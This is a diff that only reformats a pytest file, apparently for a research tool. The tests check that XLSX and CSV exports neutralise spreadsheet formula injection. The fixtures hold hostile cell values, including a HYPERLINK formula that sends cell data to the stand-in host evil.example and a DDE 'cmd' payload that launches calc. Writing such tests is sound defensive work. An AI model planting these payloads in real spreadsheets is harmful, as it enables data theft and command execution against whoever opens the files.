@@ -16,13 +16,12 @@ exact text (see SECURITY.md).
 
 from __future__ import annotations
 
-import io
 import importlib
+import io
 
 import pandas as pd
 import pytest
-
-from hostile import make_qdpx, project_qde, qda_import, run_main, SOURCE_GUID
+from hostile import SOURCE_GUID, make_qdpx, project_qde, qda_import, run_main
 
 
 def _mod(new, old):
@@ -32,18 +31,34 @@ def _mod(new, old):
         return importlib.import_module(old)
 
 
-RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-         "\t=1+1", "\r=1+1"]
+RISKY = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _table(texts):
     n = len(texts)
-    return pd.DataFrame({
-        "dimension": [f"d{i}" for i in range(n)], "dimension_label": texts, "level_label": ["Aligned"] * n,
-        "n_strength": [3] * n, "n_gap": [1] * n, "n_mixed": [0] * n, "n_sources": [2] * n,
-        "score": [-0.5] * n, "key_strength": texts, "critical_gap": texts,
-        "published_level": [""] * n, "matches_published": [None] * n,
-    })
+    return pd.DataFrame(
+        {
+            "dimension": [f"d{i}" for i in range(n)],
+            "dimension_label": texts,
+            "level_label": ["Aligned"] * n,
+            "n_strength": [3] * n,
+            "n_gap": [1] * n,
+            "n_mixed": [0] * n,
+            "n_sources": [2] * n,
+            "score": [-0.5] * n,
+            "key_strength": texts,
+            "critical_gap": texts,
+            "published_level": [""] * n,
+            "matches_published": [None] * n,
+        }
+    )
 
 
 def test_xlsx_text_cells_are_strings_never_formulas(tmp_path):
@@ -54,7 +69,7 @@ def test_xlsx_text_cells_are_strings_never_formulas(tmp_path):
     ws = load_workbook(tmp_path / "table1.xlsx").active
     rows = list(ws.iter_rows(min_row=2))
     assert len(rows) == len(RISKY)
-    for text, row in zip(RISKY, rows):
+    for text, row in zip(RISKY, rows, strict=False):
         for cell in row:
             assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
         dim = row[0]
@@ -76,11 +91,24 @@ def test_xlsx_numbers_stay_numbers():
     assert ws["A3"].data_type == "s" and not ws["A3"].quotePrefix
 
 
-@pytest.mark.parametrize("text,expected", [
-    ("=HYPERLINK(1)", "'=HYPERLINK(1)"), ("+1+cmd", "'+1+cmd"), ("+1", "+1"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("", ""), ("-3", "-3"), ("+2.5e3", "+2.5e3"),
-    ("-0.50", "-0.50"), ("a=b", "a=b"),
-])
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
+        ("+1+cmd", "'+1+cmd"),
+        ("+1", "+1"),
+        ("-cmd", "'-cmd"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("plain", "plain"),
+        ("", ""),
+        ("-3", "-3"),
+        ("+2.5e3", "+2.5e3"),
+        ("-0.50", "-0.50"),
+        ("a=b", "a=b"),
+    ],
+)
 def test_spreadsheet_cell_rule(text, expected):
     tables = _mod("revalign.alignment.tables", "revalign.tables")
     assert tables.spreadsheet_text(text) == expected
@@ -111,7 +139,7 @@ def test_csv_reports_neutralise_formulas_and_keep_numbers(tmp_path, capfd):
     assert code == 0, e
     merges = pd.read_csv(rep, dtype=str, keep_default_na=False)
     assert len(merges) == 1
-    assert merges["kept_title"].tolist() == ["'=HYPERLINK(\"http://evil.example/\",\"Click me\")"]
+    assert merges["kept_title"].tolist() == ['\'=HYPERLINK("http://evil.example/","Click me")']
     assert merges["year"].tolist() == ["2020"]  # a number stays a number
     rejects = pd.read_csv(rej, dtype=str, keep_default_na=False)
     assert len(rejects) == 1 and not rejects.iloc[0]["reason"].startswith("'")
@@ -121,13 +149,16 @@ def test_csv_reports_neutralise_formulas_and_keep_numbers(tmp_path, capfd):
 
 
 def test_csv_unmapped_report_neutralises_formulas(tmp_path, capfd):
-    text = b"=HYPERLINK(\"http://evil.example/\") and more"
-    codes = ('<Code guid="aaaaaaaa-0000-4000-8000-000000000001" name="Empower learners" isCodable="true"/>'
-             '<Code guid="aaaaaaaa-0000-4000-8000-000000000009" name="@evil code" isCodable="true"/>')
+    text = b'=HYPERLINK("http://evil.example/") and more'
+    codes = (
+        '<Code guid="aaaaaaaa-0000-4000-8000-000000000001" name="Empower learners" isCodable="true"/>'
+        '<Code guid="aaaaaaaa-0000-4000-8000-000000000009" name="@evil code" isCodable="true"/>'
+    )
     qde = project_qde(codes_xml=codes, end=30).replace(
         '<CodeRef targetGUID="aaaaaaaa-0000-4000-8000-000000000001"/>',
         '<CodeRef targetGUID="aaaaaaaa-0000-4000-8000-000000000001"/>'
-        '<CodeRef targetGUID="aaaaaaaa-0000-4000-8000-000000000009"/>')
+        '<CodeRef targetGUID="aaaaaaaa-0000-4000-8000-000000000009"/>',
+    )
     qdpx = make_qdpx(tmp_path / "p.qdpx", qde, {f"sources/{SOURCE_GUID}.txt": text})
     out, un = tmp_path / "s.csv", tmp_path / "unmapped.csv"
     code, o, e = run_main(qda_import(qdpx, out, "--unmapped", un), capfd)
